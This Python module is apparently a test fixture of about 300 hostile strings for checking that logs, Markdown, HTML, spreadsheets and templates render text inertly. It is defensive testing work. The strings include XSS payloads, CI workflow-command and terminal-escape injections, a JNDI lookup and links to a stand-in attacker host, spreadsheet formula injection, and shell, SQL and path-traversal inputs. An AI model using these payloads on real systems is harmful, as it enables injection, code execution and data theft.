# ruff: noqa: E501 (a table of texts)
"""Texts that try to be more than text: in a log, in Markdown, in HTML, in a spreadsheet, in a template."""

_SCRIPT = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "</title><script>alert(1)</script>", "<a href='javascript:alert(1)'>x</a>", "\"><script>alert(1)</script>",
    "'-alert(1)-'", "<iframe srcdoc='<script>alert(1)</script>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style>", "<!-- hidden", "-->visible", "<math><mtext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<base href='http://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example'>", "<form action=x><input type=submit>",
    "</svg><script>alert(1)</script>", "]]><script>alert(1)</script>", "<object data=x>", "<link rel=stylesheet href=x>",
]  # fmt: skip
_COMMAND = [
    "::error::x", "::add-mask::x", "::set-output name=a::b", "::stop-commands::x", "##[error]x", "##[group]x",
    "a\n::error::b", "a\r\n::warning::b", "\n##[command]x", "::endgroup::", "  ::error::x", "%0A::error::x",
    "::debug::x", "::save-state name=a::b", "\u2028::error::x", "\x85::error::x", "a\x0b::error::b", "\x0c::error::x",
]  # fmt: skip
_TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x08\x08\x08", "a\rb", "\x00", "\x7f",
    "\u202eevil", "\u200b", "\ufeff", "\x1b]8;;http://attacker.example\x1b\\link\x1b]8;;\x1b\\",
]  # fmt: skip
_MARKDOWN = [
    "a|b", "a | b | c", "`code`", "``", "**bold**", "__bold__", "*i*", "_i_", "~~gone~~", "# head", "> quote", "- item",
    "1. item", "[x](http://attacker.example)", "![x](http://attacker.example/a.png)", "<http://attacker.example>",
    "http://attacker.example", "www.attacker.example", "mail@attacker.example", "| --- |", "---", "***", "\\|", "\\",
    "[x]: http://attacker.example", "[^1]", "- [ ] task", "$$x$$", "$`x`$", "```\nfence", "a\n\nb", "| a |\n|---|\n| b |",
    ":smile:", "<br>", "&amp;", "&#124;", "&#x7c;", "&lt;b&gt;", "a\\\nb", "a  \nb",
]  # fmt: skip
_MENTION = [
    "@octocat", "@org/team", "hello @octocat!", "#1", "GH-1", "org/repo#1", "org/repo@abc1234", "(@octocat)", "@@octocat",
    "0123456789abcdef0123456789abcdef01234567", "fixes #1", "closes GH-1",
]  # fmt: skip
_TEMPLATE = [
    "{{7*7}}", "{% include 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s", "%s%n", "{x!r}", "$(id)",
    "`id`", "${{ github.token }}", "{{ request.application }}", "${jndi:ldap://attacker.example/a}",
]  # fmt: skip
_FORMULA = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://attacker.example")',
    "\t=1+1",
    "|cmd|'/c calc'!A1",
]
_SHELL = [
    "; rm -rf x",
    "$(touch x)",
    "&& x",
    "| x",
    "' OR 1=1 --",
    "../../etc/passwd",
    "..\\..\\x",
    "a\0b",
    "-rf",
    "--help",
]
_LONG = ["x" * 500, "é" * 200, "名前", "😀", "a\tb", "", " ", "\u00a0", "ﷺ", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L"]

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_SCRIPT, *_COMMAND, *_TERMINAL, *_MARKDOWN, *_MENTION, *_TEMPLATE, *_FORMULA, *_SHELL, *_LONG,
            *(f"{a}{b}" for a in _COMMAND[:10] for b in _SCRIPT[:8]),
            *(f"{a} {b}" for a in _MENTION[:6] for b in _MARKDOWN[:12]),
        ]
    )
)  # fmt: skip
"""About 300 of them, each once."""
